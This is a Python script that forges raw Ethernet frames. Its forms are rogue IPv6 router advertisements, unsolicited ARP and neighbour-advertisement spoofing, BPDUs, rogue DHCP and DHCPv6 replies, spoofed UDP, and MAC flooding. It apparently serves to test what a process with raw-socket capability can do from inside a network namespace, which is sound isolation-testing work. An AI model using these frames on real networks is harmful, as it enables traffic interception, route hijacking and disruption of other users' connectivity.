#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends one forged frame (or many) out of an interface: what a program with CAP_NET_RAW can do.

    frame.py INTERFACE KIND KEY=VALUE...

KIND: ra, arp, na, bpdu, dhcp, dhcp6, udp, flood. Keys: mac (source, default the interface's), to (destination MAC),
src, dst (addresses), target (of arp and na), port, count. Run it in the namespace of whom it forges from, for example
by nsenter --net.
"""
import ipaddress
import os
import socket
import struct
import sys


def mac(text):
    return bytes(int(b, 16) for b in text.split(':'))


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ip4(src, dst, proto, payload):
    s, d = ipaddress.ip_address(src).packed, ipaddress.ip_address(dst).packed
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0) + s + d
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload


def ip6(src, dst, proto, payload, hops=255):
    s, d = ipaddress.ip_address(src).packed, ipaddress.ip_address(dst).packed
    return struct.pack('!IHBB', 6 << 28, len(payload), proto, hops) + s + d + payload


def icmp6(src, dst, kind, body):
    data = struct.pack('!BBH', kind, 0, 0) + body
    s, d = ipaddress.ip_address(src).packed, ipaddress.ip_address(dst).packed
    pseudo = s + d + struct.pack('!II', len(data), 58)
    data = data[:2] + struct.pack('!H', checksum(pseudo + data)) + data[4:]
    return ip6(src, dst, 58, data)


def udp(src, dst, sport, dport, body):
    s, d = ipaddress.ip_address(src), ipaddress.ip_address(dst)
    data = struct.pack('!HHHH', sport, dport, 8 + len(body), 0) + body
    pseudo = s.packed + d.packed + struct.pack('!II', len(data), 17)
    data = data[:6] + struct.pack('!H', checksum(pseudo + data) or 0xffff) + data[8:]
    return ip4(src, dst, 17, data) if s.version == 4 else ip6(src, dst, 17, data, 64)


def main():
    interface, kind = sys.argv[1:3]
    o = dict(a.split('=', 1) for a in sys.argv[3:])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((interface, 0))
    own = sock.getsockname()[4]
    source = mac(o['mac']) if 'mac' in o else own
    everybody = b'\xff' * 6

    def send(to, ethertype, payload):
        frame = (mac(o['to']) if 'to' in o else to) + source + struct.pack('!H', ethertype) + payload
        sock.send(frame.ljust(60, b'\0'))

    if kind == 'ra':  # a default route and a prefix for who believes it
        prefix = ipaddress.ip_address('2001:db8:bad::').packed
        body = struct.pack('!BBHII', 64, 0, 1800, 0, 0)
        body += struct.pack('!BB', 1, 1) + source
        body += struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 3600, 3600, 0) + prefix
        send(mac('33:33:00:00:00:01'), 0x86dd, icmp6(o['src'], 'ff02::1', 134, body))
    elif kind == 'arp':  # "src is at mac", asked by nobody
        spa, tpa = (ipaddress.ip_address(o[k]).packed for k in ('src', 'target'))
        for operation in (1, 2):
            send(everybody, 0x0806, struct.pack('!HHBBH', 1, 0x800, 6, 4, operation) + source + spa + b'\0' * 6 + tpa)
    elif kind == 'na':
        target = ipaddress.ip_address(o['target']).packed
        body = struct.pack('!I', 0x20000000) + target + struct.pack('!BB', 2, 1) + source
        send(mac('33:33:00:00:00:01'), 0x86dd, icmp6(o['src'], 'ff02::1', 136, body))
    elif kind == 'bpdu':
        bpdu = bytes.fromhex('424203000000000000' + '00000000000000000000000000000000' + '0000000000000000000000000000')
        frame = mac('01:80:c2:00:00:00') + source + struct.pack('!H', len(bpdu)) + bpdu
        sock.send(frame.ljust(60, b'\0'))
    elif kind == 'dhcp':
        send(everybody, 0x0800, udp(o['src'], o.get('dst', '255.255.255.255'), 67, 68, b'\2' + b'\0' * 300))
    elif kind == 'dhcp6':
        send(mac('33:33:00:00:00:01'), 0x86dd, udp(o['src'], o.get('dst', 'ff02::1'), 547, 546, b'\2' + b'\0' * 60))
    elif kind == 'udp':
        six = ipaddress.ip_address(o['dst']).version == 6
        send(everybody, 0x86dd if six else 0x0800, udp(o['src'], o['dst'], 40000, int(o['port']), b'forged'))
    elif kind == 'flood':  # a new source address each time
        for _ in range(int(o['count'])):
            source = bytes([2]) + os.urandom(5)
            send(everybody, 0x0806, struct.pack('!HHBBH', 1, 0x800, 6, 4, 1) + source
                 + ipaddress.ip_address(o['src']).packed + b'\0' * 6 + ipaddress.ip_address(o['target']).packed)
    else:
        sys.exit(f'frame.py: no kind {kind}')


main()
